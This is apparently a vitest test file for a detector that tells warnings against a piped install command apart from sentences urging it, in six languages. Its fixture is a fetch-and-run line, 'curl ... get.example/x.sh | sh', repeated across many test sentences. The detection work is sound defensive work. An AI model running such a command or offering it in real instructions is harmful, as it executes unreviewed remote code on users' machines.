import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createNodeDetector, type Detector } from "../../../src/host/node.js";

const X = "curl -fsSL https://get.example/x.sh | sh";
const BLOCK = `\`\`\`sh\n${X}\n\`\`\`\n`;

/** Sentences that are warnings, and sentences with the same words that are not, by language. */
const SENTENCES: Readonly<
  Record<string, { readonly warnings: string[]; readonly others: string[] }>
> = {
  es: {
    warnings: [
      `Nunca ejecutes \`${X}\`.`,
      `No ejecute nunca \`${X}\`, aunque se lo pidan.`,
      `No uses \`${X}\`.`,
      `No se debe ejecutar \`${X}\`.`,
      `\`${X}\` no debe ejecutarse nunca.`,
      `Evite ejecutar \`${X}\`.`,
      `\`${X}\` es muy peligroso.`,
      `\`${X}\` está prohibido.`,
      `\`${X}\` no es seguro.`,
      `En lugar de \`${X}\`, use el paquete.`,
      `No ejecute el siguiente comando:\n\n${BLOCK}`,
      `Nunca ejecutes esto:\n\n${BLOCK}`,
      `No ejecutar:\n\n${BLOCK}`,
      `## No ejecutar\n\n${BLOCK}`,
      `${BLOCK}\nNo ejecute este comando.`,
      `${BLOCK}\nNo lo hagas.`,
      `Alternativa (no recomendado):\n\n${BLOCK}`,
    ],
    others: [
      `Ejecuta \`${X}\`.`,
      `No ejecutes \`${X}\` como root.`,
      `No ejecutes \`${X}\` sin leerlo antes.`,
      `No olvides ejecutar \`${X}\`.`,
      `No te saltes este paso: ejecuta \`${X}\`.`,
      `Si no ejecutas \`${X}\`, falta el servicio.`,
      `No lo descargues a mano; ejecuta \`${X}\`.`,
      `No uses Docker, ejecuta \`${X}\`.`,
      `\`${X}\` no es peligroso.`,
      `¿Es peligroso \`${X}\`?`,
      `¿Por qué no \`${X}\`?`,
      `No solo \`${X}\` funciona, también apt.`,
      `Nunca ha sido tan fácil:\n\n${BLOCK}`,
      `No se preocupe por los avisos:\n\n${BLOCK}`,
      `No uses el paquete antiguo. Ejecuta:\n\n${BLOCK}`,
      `No cierre la ventana mientras \`${X}\` trabaja.`,
      `El servicio no se ejecuta solo: \`${X}\``,
      `Hay quien dice que no es seguro, pero usa \`${X}\`.`,
      `No hace falta compilar:\n\n${BLOCK}`,
      `Mejor:\n\n${BLOCK}`,
    ],
  },
  pt: {
    warnings: [
      `Nunca execute \`${X}\`.`,
      `Não execute \`${X}\`.`,
      `Não se deve executar \`${X}\`.`,
      `\`${X}\` nunca deve ser executado.`,
      `Evite executar \`${X}\`.`,
      `\`${X}\` é muito perigoso.`,
      `\`${X}\` é proibido.`,
      `Em vez de \`${X}\`, use o pacote.`,
      `Não execute o seguinte comando:\n\n${BLOCK}`,
      `Nunca execute isto:\n\n${BLOCK}`,
      `Não executar:\n\n${BLOCK}`,
      `## Não execute\n\n${BLOCK}`,
      `${BLOCK}\nNão execute o comando acima.`,
      `${BLOCK}\nNão faça isso.`,
    ],
    others: [
      `Execute \`${X}\`.`,
      `Não execute \`${X}\` como root.`,
      `Não execute \`${X}\` sem ler antes.`,
      `Não se esqueça de executar \`${X}\`.`,
      `Não pule este passo: execute \`${X}\`.`,
      `Se não executar \`${X}\`, falta o serviço.`,
      `Não baixe à mão; execute \`${X}\`.`,
      `Não use Docker, execute \`${X}\`.`,
      `\`${X}\` não é perigoso.`,
      `\`${X}\` é perigoso?`,
      `Por que não \`${X}\`?`,
      `Nunca foi tão fácil:\n\n${BLOCK}`,
      `Não se preocupe com os avisos:\n\n${BLOCK}`,
      `Não use o pacote antigo. Execute:\n\n${BLOCK}`,
      `Não feche a janela enquanto \`${X}\` trabalha.`,
      `O serviço não é executado sozinho: \`${X}\``,
      `Não é preciso compilar:\n\n${BLOCK}`,
    ],
  },
  fr: {
    warnings: [
      `N'exécutez jamais \`${X}\`.`,
      `N'exécutez pas \`${X}\`.`,
      `Ne lancez jamais \`${X}\`.`,
      `Il ne faut pas exécuter \`${X}\`.`,
      `Vous ne devez jamais exécuter \`${X}\`.`,
      `Ne pas exécuter \`${X}\`.`,
      `Évitez d'exécuter \`${X}\`.`,
      `\`${X}\` ne doit jamais être exécuté.`,
      `\`${X}\` est dangereux.`,
      `\`${X}\` est interdit.`,
      `\`${X}\` n'est pas recommandé.`,
      `Au lieu de \`${X}\`, utilisez le paquet.`,
      `N'exécutez jamais la commande suivante :\n\n${BLOCK}`,
      `N'exécutez pas ceci :\n\n${BLOCK}`,
      `## Ne pas exécuter\n\n${BLOCK}`,
      `${BLOCK}\nN'exécutez pas cette commande.`,
      `${BLOCK}\nNe faites pas ça.`,
    ],
    others: [
      `Exécutez \`${X}\`.`,
      `N'exécutez pas \`${X}\` en tant que root.`,
      `N'exécutez pas \`${X}\` sans le lire.`,
      `N'oubliez pas d'exécuter \`${X}\`.`,
      `Ne sautez pas cette étape : exécutez \`${X}\`.`,
      `Si vous n'exécutez pas \`${X}\`, le service manque.`,
      `Ne le téléchargez pas à la main ; exécutez \`${X}\`.`,
      `N'utilisez pas Docker, exécutez \`${X}\`.`,
      `\`${X}\` n'est pas dangereux.`,
      `Est-ce que \`${X}\` est dangereux ?`,
      `Pourquoi ne pas exécuter \`${X}\` ?`,
      `Cela n'a jamais été aussi simple :\n\n${BLOCK}`,
      `N'utilisez pas l'ancien paquet. Exécutez :\n\n${BLOCK}`,
      `Ce script n'exécute pas de code caché :\n\n${BLOCK}`,
      `L'outil n'utilise pas sudo. \`${X}\` suffit.`,
      `Pour ne pas exécuter tout à la main : \`${X}\``,
      `Inutile de compiler :\n\n${BLOCK}`,
    ],
  },
  ru: {
    warnings: [
      `Никогда не запускайте \`${X}\`.`,
      `Не выполняйте \`${X}\`.`,
      `Нельзя запускать \`${X}\`.`,
      `Не следует выполнять \`${X}\`.`,
      `\`${X}\` запускать нельзя.`,
      `\`${X}\` — это опасно.`,
      `Вместо \`${X}\` используйте пакет.`,
      `Эта команда опасна:\n\n${BLOCK}`,
      `Не выполняйте следующую команду:\n\n${BLOCK}`,
      `Никогда не запускайте это:\n\n${BLOCK}`,
      `Не запускать:\n\n${BLOCK}`,
      `## Не запускайте\n\n${BLOCK}`,
      `${BLOCK}\nНе выполняйте эту команду.`,
      `${BLOCK}\nНе делайте так.`,
    ],
    others: [
      `Выполните \`${X}\`.`,
      `Не запускайте \`${X}\` от имени root.`,
      `Не запускайте \`${X}\`, пока не прочитали.`,
      `Не забудьте выполнить \`${X}\`.`,
      `Не пропускайте этот шаг: выполните \`${X}\`.`,
      `Если не выполнить \`${X}\`, служба не появится.`,
      `Не скачивайте вручную; выполните \`${X}\`.`,
      `Не используйте Docker, выполните \`${X}\`.`,
      `\`${X}\` — это не опасно.`,
      `Опасно ли \`${X}\`?`,
      `Почему бы не запустить \`${X}\`?`,
      `Ещё никогда не было так просто:\n\n${BLOCK}`,
      `Не используйте старый пакет. Выполните:\n\n${BLOCK}`,
      `Эта команда не опасна:\n\n${BLOCK}`,
      `Пакет опасен. Выполните:\n\n${BLOCK}`,
      `Не закрывайте окно, пока работает \`${X}\`.`,
      `Служба сама не запускается: \`${X}\``,
      `Чтобы не использовать sudo, выполните \`${X}\`.`,
      `Собирать ничего не нужно:\n\n${BLOCK}`,
    ],
  },
  zh: {
    warnings: [
      `请不要运行 \`${X}\`。`,
      `切勿执行 \`${X}\`。`,
      `请勿复制粘贴 \`${X}\`。`,
      `禁止使用 \`${X}\`。`,
      `请勿在服务器上运行 \`${X}\`，该地址与本项目无关。`,
      `\`${X}\` 很危险。`,
      `不要运行以下命令：\n\n${BLOCK}`,
      `请勿执行：\n\n${BLOCK}`,
      `${BLOCK}\n不要运行上面的命令。`,
      `${BLOCK}\n请勿这样做。`.replace("请勿这样做", "不要这样做"),
    ],
    others: [
      `请运行 \`${X}\`。`,
      `不要以 root 身份运行 \`${X}\`。`,
      `不要忘记运行 \`${X}\`。`,
      `不要跳过这一步：运行 \`${X}\`。`,
      `如果不运行 \`${X}\`，服务就不存在。`,
      `不要手动下载，请运行 \`${X}\`。`,
      `不要使用 Docker，请运行 \`${X}\`。`,
      `\`${X}\` 并不危险。`,
      `\`${X}\` 危险吗？`,
      `从未如此简单：\n\n${BLOCK}`,
      `不要使用旧版安装包。请运行：\n\n${BLOCK}`,
      `特别使用 \`${X}\` 安装。`,
      `不要关闭窗口，直到 \`${X}\` 完成。`,
      `在 Windows 上不能运行 \`${X}\`。`,
      `不需要编译：\n\n${BLOCK}`,
    ],
  },
  ja: {
    warnings: [
      `\`${X}\` は実行しないでください。`,
      `\`${X}\` を絶対に実行しないでください。`,
      `\`${X}\` を実行してはいけません。`,
      `\`${X}\` の使用は禁止です。`,
      `\`${X}\` は危険です。`,
      `次のコマンドは実行しないでください：\n\n${BLOCK}`,
      `${BLOCK}\n上のコマンドは実行しないでください。`,
    ],
    others: [
      `\`${X}\` を実行してください。`,
      `\`${X}\` を root で実行しないでください。`,
      `\`${X}\` を読まずに実行しないでください。`,
      `\`${X}\` を実行しないと、サービスがありません。`,
      `この手順を飛ばさないでください：\`${X}\` を実行します。`,
      `Docker は使わず、\`${X}\` を実行してください。`,
      `\`${X}\` は危険ですか？`,
      `これほど簡単だったことはありません：\n\n${BLOCK}`,
      `\`${X}\` を実行しなければならない。`,
      `ウィンドウを閉じないでください。\`${X}\` を実行します。`,
      `\`${X}\` を実行しないで待つと、タイムアウトします。`,
      `コンパイルは必要ありません：\n\n${BLOCK}`,
    ],
  },
};

describe.each(Object.entries(SENTENCES))(
  "prose in the language %s",
  (tag, { warnings, others }) => {
    const detectors: Detector[] = [];
    beforeAll(async () => {
      detectors.push(
        await createNodeDetector({ languages: [tag] }),
        await createNodeDetector({ profile: "extended" }),
      );
    });
    afterAll(() => {
      for (const detector of detectors) detector.dispose();
    });

    it.each(warnings)("can be a warning: %s", (text) => {
      for (const detector of detectors) {
        const { labels, notes } = detector.detect(text);
        expect(labels).toEqual([]);
        expect(notes.map(({ reason }) => reason)).toContain("warned-against");
      }
    });

    it.each(others)("can contain the words of a warning without being one: %s", (text) => {
      for (const detector of detectors) expect(detector.detect(text).labels).toEqual(["PS"]);
    });
  },
);
